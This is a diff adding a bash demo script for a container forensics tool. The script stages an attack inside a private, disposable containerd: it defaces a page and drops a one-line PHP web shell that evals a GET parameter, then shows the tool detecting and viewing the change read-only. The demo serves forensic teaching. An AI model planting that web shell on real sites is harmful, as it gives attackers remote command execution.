@@ -1,0 +1,121 @@
+#!/usr/bin/env bash
+# make demo: the first article of the design brief, on a private containerd.
+# A PHP site is hacked (index.html defaced, shell.php dropped); ctrforensics
+# shows what changed, without running anything in the container and without
+# changing it. `scripts/demo.sh clean` (make demo-clean) removes everything.
+set -euo pipefail
+cd "$(dirname "$0")/.."
+
+DEMO=${CTRFORENSICS_DEMO_DIR:-/var/tmp/ctrforensics-demo}
+SOCK=$DEMO/containerd.sock
+NS=ctrforensics-demo
+IMAGE=docker.io/ctrforensics/demo-web:1
+# ctr and ctrforensics both read these, so the commands below stay short.
+export CONTAINERD_ADDRESS=$SOCK CONTAINERD_NAMESPACE=$NS
+export PATH=$PWD/bin:$PATH
+CTR=(ctr)
+CF=(ctrforensics)
+
+if [ -t 1 ]; then bold=$'\e[1m' off=$'\e[0m'; else bold='' off=''; fi
+say() { printf '\n%s== %s%s\n' "$bold" "$*" "$off"; }
+# run shows a command as one would type it, then runs it.
+run() {
+  local shown=() a
+  for a in "$@"; do
+    if [[ $a =~ ^[][A-Za-z0-9_./:=@%+,-]+$ ]]; then shown+=("$a"); else shown+=("'${a//\'/\'\\\'\'}'"); fi
+  done
+  printf '%s$ %s%s\n' "$bold" "${shown[*]}" "$off"
+  "$@"
+}
+
+clean() {
+  if [ -S "$SOCK" ]; then
+    "${CTR[@]}" task kill -s SIGKILL web >/dev/null 2>&1 || true
+    for _ in 1 2 3 4 5 6 7 8 9 10; do
+      "${CTR[@]}" task delete web >/dev/null 2>&1 && break
+      "${CTR[@]}" task ls -q 2>/dev/null | grep -qx web || break
+      sleep 0.3
+    done
+    "${CTR[@]}" container delete web >/dev/null 2>&1 || true
+  fi
+  if [ -f "$DEMO/containerd.pid" ]; then
+    kill "$(cat "$DEMO/containerd.pid")" 2>/dev/null || true
+    for _ in $(seq 50); do kill -0 "$(cat "$DEMO/containerd.pid")" 2>/dev/null || break; sleep 0.1; done
+  fi
+  pkill -KILL -f "containerd-shim-runc-v2 .*-address $SOCK" 2>/dev/null || true
+  # Unmount whatever is left below the demo directory, deepest first.
+  if [ -d "$DEMO" ]; then
+    awk -v d="$DEMO" 'index($5, d) == 1 { print $5 }' /proc/self/mountinfo | sort -r |
+      while read -r m; do umount "$m" 2>/dev/null || umount -l "$m"; done
+  fi
+  rm -rf /run/ctrforensics/mounts/*.json.demo 2>/dev/null || true
+  rm -rf "$DEMO"
+}
+
+if [ "${1:-}" = clean ]; then
+  clean
+  echo "demo removed"
+  exit 0
+fi
+if [ "$(id -u)" != 0 ]; then
+  echo "make demo runs containerd and mounts overlayfs: run it as root" >&2
+  exit 2
+fi
+clean
+trap 'status=$?; clean; exit $status' EXIT
+mkdir -p "$DEMO"
+
+say "Start a private containerd (its own root, state and socket under $DEMO)"
+echo "CONTAINERD_ADDRESS=$SOCK CONTAINERD_NAMESPACE=$NS"
+cat > "$DEMO/config.toml" <<TOML
+version = 2
+root = "$DEMO/root"
+state = "$DEMO/state"
+temp = "$DEMO/tmp"
+disabled_plugins = ["io.containerd.grpc.v1.cri", "io.containerd.snapshotter.v1.aufs",
+  "io.containerd.snapshotter.v1.btrfs", "io.containerd.snapshotter.v1.devmapper", "io.containerd.snapshotter.v1.zfs"]
+[grpc]
+  address = "$SOCK"
+[ttrpc]
+  address = "$SOCK.ttrpc"
+[debug]
+  address = ""
+[metrics]
+  address = ""
+[plugins."io.containerd.internal.v1.opt"]
+  path = "$DEMO/opt"
+TOML
+containerd --config "$DEMO/config.toml" >"$DEMO/containerd.log" 2>&1 &
+echo $! >"$DEMO/containerd.pid"
+for _ in $(seq 100); do "${CTR[@]}" version >/dev/null 2>&1 && break; sleep 0.1; done
+"${CTR[@]}" version >/dev/null || { tail -20 "$DEMO/containerd.log"; exit 1; }
+echo "containerd $(containerd --version | awk '{print $3}') listening on $SOCK"
+
+say "Import the demo web image and run it"
+go run ./internal/demoimage >"$DEMO/web.tar"
+run "${CTR[@]}" images import "$DEMO/web.tar"
+run "${CTR[@]}" run -d "$IMAGE" web
+sleep 0.5
+
+say "The attack: deface index.html and drop a web shell (played with task exec)"
+run "${CTR[@]}" task exec --exec-id attack web sh -c \
+  'echo "<h1>Hacked by x</h1>" > /var/www/html/index.html && echo "<?php eval(\$_GET[\"cmd\"]); ?>" > /var/www/html/shell.php'
+
+say "What is on this host?"
+run "${CF[@]}" ls
+
+say "What did the attacker change? (docker diff lines, read-only, content-hashed)"
+run "${CF[@]}" diff web
+
+say "The same as JSON, for the shell script and the defaced page"
+"${CF[@]}" diff --format json web | grep -E '"path":"/var/www/html/(shell.php|index.html)"'
+
+say "Browse the container's own layer read-only, without running anything in it"
+run "${CF[@]}" mount --upper-only web "$DEMO/view"
+run cat "$DEMO/view/var/www/html/shell.php"
+run "${CF[@]}" umount "$DEMO/view"
+
+say "The container is still running, untouched"
+run "${CTR[@]}" task ls
+echo
+echo "Done: everything the demo created is removed on exit."
